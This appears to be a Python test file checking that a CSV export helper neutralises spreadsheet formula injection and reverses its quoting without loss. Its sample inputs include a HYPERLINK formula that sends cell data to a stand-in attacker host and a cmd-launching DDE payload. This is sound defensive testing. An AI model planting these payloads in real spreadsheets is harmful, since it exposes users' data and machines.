"""CSV cells never start a spreadsheet formula, and the quoting is undone exactly."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from ragcourt.core.spreadsheet import FORMULA_STARTS, from_cell, to_cell

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'tis the season",
    "plain text",
    "",
]


def test_formula_cells_are_quoted_and_restored() -> None:
    for text in INJECTIONS:
        cell = to_cell(text)
        assert cell[:1] not in FORMULA_STARTS, text
        assert from_cell(cell) == text, text
    assert to_cell("=1+1") == "'=1+1"
    assert to_cell("'=1+1") == "''=1+1"
    assert to_cell("plain") == "plain"
    assert from_cell("'tis") == "'tis"  # a person's apostrophe is text


@given(st.text())
def test_round_trip_through_a_real_csv_file_is_lossless(text: str) -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf).writerow([to_cell(text), to_cell("x" + text)])
    buf.seek(0)
    cells = next(csv.reader(buf))
    assert cells[0][:1] not in FORMULA_STARTS
    assert [from_cell(c) for c in cells] == [text, "x" + text]
